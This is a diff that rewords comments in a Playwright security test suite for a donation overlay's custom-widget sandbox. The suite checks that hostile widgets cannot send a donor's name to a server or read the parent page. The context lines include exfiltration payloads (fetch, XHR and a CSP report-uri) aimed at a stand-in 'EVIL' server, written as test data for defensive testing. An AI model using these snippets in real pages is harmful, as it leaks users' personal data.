@@ -1,4 +1,4 @@
-// Over 300 lines: the list of attacks, each of which one widget tries against one server.
+// Over 300 lines: the list of attacks, which one widget tries against one server.
 import { readFile } from 'node:fs/promises';
 import { chromium } from '@playwright/test';
 import { donate } from './support/api.ts';
@@ -8,11 +8,11 @@ import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { type EvilServer, openEvilServer } from './support/evilServer.ts';
 import { expect, test } from './support/fixtures.ts';
 
-/* Attempts of a hostile widget to send a donor's name to a server, or to read data that it may not have (SPEC CUS-43). */
+/* A hostile widget tries to send a donor's name to a server, or to read data that it may not have (SPEC CUS-43). */
 
 test.use({ viewport: { width: 1_280, height: 720 } });
 
-/** Each attack runs separately, and may throw. `EVIL` is an address that must not receive anything. */
+/** Each attack runs separately and may throw. `EVIL` is the address of a server that must not receive anything. */
 const attacks: Readonly<Record<string, string>> = {
   fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
   xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
@@ -78,7 +78,7 @@ const attacks: Readonly<Record<string, string>> = {
     "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
 };
 
-/** Expressions for what a widget must not be able to read. Each must throw or be empty. */
+/** Expressions that a widget must not be able to read. Each must throw or be empty. */
 const reads: Readonly<Record<string, string>> = {
   'the parent’s document': 'parent.document.body.innerHTML',
   'the parent’s address': 'parent.location.href',
@@ -115,7 +115,7 @@ const prelude = (server: EvilServer) => `
   }
 `;
 
-/** Attacks that leave the widget's document, after which the widget is removed. */
+/** Attacks that leave the widget's document. The widget must be removed after each of them. */
 const leaving = [
   'document.write',
   'meta',
@@ -130,7 +130,7 @@ const leaving = [
 
 test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
   const html = '<p id="tried"></p>';
-  /** A widget receives events only after `onWidgetLoad`. */
+  /** Reports that the widget is ready. A widget receives events only after `onWidgetLoad`. */
   const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
   const staying = Object.entries(attacks).filter(([name]) => !leaving.includes(name));
   const all = `${prelude(evil)} ${onLoad}
@@ -164,8 +164,8 @@ test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries',
   for (const index of leaving.keys()) await expect(widgetFrame(overlay, `leaving-${index}`).locator('#tried')).toHaveText('0');
   await donate(product, { amount: 25, donorName: 'Ada Secret' });
   await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length));
-  // A widget is removed if its attack opens another document. Other attacks are refused and the widget remains, including a
-  // link that is pressed (SPEC CUS-95).
+  // A widget is removed if its attack opens another document. All other attacks, including pressing a link (SPEC CUS-95), are
+  // refused and the widget remains.
   await expect.poll(() => overlay.locator('iframe.frame').count()).toBeLessThan(6);
   expect(evil.received).toEqual([]);
   expect(overlay.url()).toBe(address);
@@ -251,7 +251,7 @@ test('[CUS-40] [CUS-43] a widget that replaces its window’s functions does not
   `;
   await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
   const overlay = await openOverlay();
-  // By then the widget has received two pings.
+  // Until then the widget receives two pings. It must see neither.
   await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
 });
 
@@ -329,7 +329,7 @@ test('[CUS-43] a widget makes no resolver look up a host', async ({ product, obs
   await tried.dispatchEvent('click');
   // The frame is removed, because the widget has left its document.
   await expect(overlay.locator('iframe.frame')).toHaveCount(0);
-  await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but the log must contain its lookup
+  await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but its lookup proves that the log contains lookups
   await browser.close();
   const hosts = await readFile(log, 'utf8');
   expect(hosts).toContain('heard.example');
@@ -371,7 +371,7 @@ test('[CUS-47] a widget gets no worker, no WebGPU and few audio contexts; the po
 
   const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
   if (!frame) throw new Error('the overlay has no widget frame');
-  // An isolated world still has the names that were removed from the widget's world, and the same policy.
+  // The names that were removed for the widget still exist in an isolated world. The same content security policy applies there.
   const devtools = await overlay.context().newCDPSession(frame);
   const { frameTree } = await devtools.send('Page.getFrameTree');
   const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
